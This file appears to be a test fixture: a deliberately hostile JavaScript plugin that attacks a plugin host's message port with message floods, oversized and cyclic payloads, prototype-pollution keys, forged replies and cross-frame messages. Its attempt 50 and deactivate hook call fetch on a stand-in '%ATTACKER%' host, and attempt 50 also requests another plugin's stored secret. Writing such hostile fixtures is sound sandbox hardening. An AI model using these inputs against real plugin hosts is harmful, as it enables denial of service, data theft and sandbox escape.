// A hostile plugin whose runtime is broken too: it has the very port to the host and sends what it likes. Attempts 39 to 53.
const port = globalThis.rawPort;
const send = (message) => port.postMessage(typeof message === 'string' ? message : JSON.stringify({ v: 1, ...message }));
const refused = (error) => `${error?.name}: ${String(error?.message).slice(0, 80)}`;
let lastId = 1e6;

export const a39 = () => { for (let i = 0; i < 50_000; i++) send({ kind: 'event', name: 'log', value: { level: 'info', text: 'flood' } }); return 'sent 50,000 messages'; };
export const a40 = () => { send({ kind: 'event', name: 'log', value: 'x'.repeat(32 * 1024 * 1024) }); return 'sent 32 MB'; };
export const a41 = () => { send(`{"v":1,"kind":"event","name":"log","value":${'['.repeat(100_000)}${']'.repeat(100_000)}}`); return 'sent 100,000 deep'; };
export const a42 = () => {
  const told = [];
  const cyclic = { v: 1, kind: 'event', name: 'log' };
  cyclic.value = cyclic;
  for (const message of [cyclic, { v: 1, kind: 'event', name: 'log', value: 10n }, new Uint8Array(1000), new Map([['a', 1]]), null, undefined, 7, new Error('x')]) {
    try { port.postMessage(message); told.push('sent'); } catch (error) { told.push(refused(error)); }
  }
  return told.join(', ');
};
export const a43 = () => {
  for (const key of ['__proto__', 'constructor', 'prototype']) {
    send(`{"v":1,"kind":"call","id":${++lastId},"name":"storage.set","value":{"key":"a","value":{"${key}":{"polluted":true,"prototype":{"polluted":true}}}}}`);
    send(`{"v":1,"kind":"call","id":${++lastId},"name":"storage.set","value":{"key":"${key}","value":{"polluted":true}}}`);
    send(`{"v":1,"kind":"event","name":"log","${key}":{"polluted":true},"value":{"level":"info","text":"x"}}`);
    send(`{"v":1,"kind":"call","id":${++lastId},"name":"${key}","value":{}}`);
  }
  send(`{"v":1,"kind":"call","id":${++lastId},"name":"fetch","value":{"url":"https://x.example","headers":{"__proto__":{"polluted":true}}}}`);
  return 'sent';
};
export const a44 = () => ({ then: 'not a function', value: 1, catch: 'x', finally: 'y' });
export const a45 = () => { for (let id = 1; id < 40; id++) send({ kind: 'reply', id: 500 + id, value: 'forged' }); return 'sent'; };
export const a46 = () => {
  const id = ++lastId;
  send({ kind: 'call', id, name: 'configuration.get', value: { key: 'a' } });
  send({ kind: 'call', id, name: 'configuration.get', value: { key: 'a' } });
  send({ kind: 'call', id: id - 500_000, name: 'configuration.get', value: { key: 'a' } });
  return 'sent';
};
export const a47 = () => { globalThis.keepSending = setInterval(() => send({ kind: 'event', name: 'log', value: { level: 'info', text: 'after dispose' } }), 20); return 'sending'; };
export const a48 = () => {
  const { port1 } = new MessageChannel();
  try {
    port.postMessage('{"v":1,"kind":"event","name":"log","value":{"level":"info","text":"x"}}', [port1]);
    return 'sent a port';
  } catch (error) { return refused(error); }
};
export const a49 = () => {
  const told = [];
  for (const target of ['parent', 'top', 'opener', 'self', 'frames']) {
    try { globalThis[target].postMessage({ cx: 'sandbox/1', v: 1, kind: 'call', id: 1, name: 'storage.get' }, '*'); told.push(`${target}: sent`); } catch (error) { told.push(`${target}: ${error?.name}`); }
  }
  try { postMessage('started'); postMessage({ cx: 'sandbox/1' }); told.push('to the frame: sent'); } catch (error) { told.push(refused(error)); }
  return told.join(', ');
};
export const a50 = () => {
  send({ kind: 'call', id: ++lastId, name: 'storage.get', value: { key: 'secret', plugin: 'good.neighbour' } });
  send({ kind: 'call', id: ++lastId, name: 'storage.get', value: { key: 'secret' }, plugin: 'good.neighbour', capability: 'storage' });
  send({ kind: 'call', id: ++lastId, name: 'fetch', value: { url: '%ATTACKER%/hit/50/x', capability: 'network:%ATTACKER%' } });
  return 'sent';
};
export const a51 = () => { const error = new Error('x'.repeat(300_000)); error.stack = 'y'.repeat(300_000); throw error; };
export const a52 = () => new Promise(() => {});
export const activate = () => {};
export const deactivate = () => { for (let i = 0; i < 5; i++) send({ kind: 'call', id: ++lastId, name: 'fetch', value: { url: '%ATTACKER%/hit/53/x' } }); return new Promise(() => {}); };
